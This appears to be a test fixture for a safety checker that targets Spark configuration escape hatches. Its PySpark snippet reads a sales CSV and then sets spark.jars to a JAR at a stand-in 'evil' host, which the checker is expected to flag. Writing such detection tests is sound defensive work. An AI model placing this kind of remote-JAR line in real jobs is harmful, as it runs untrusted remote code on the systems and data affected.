# expect: safety.spark-conf
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
spark.conf.set("spark.jars", "http://evil/x.jar")
result = df
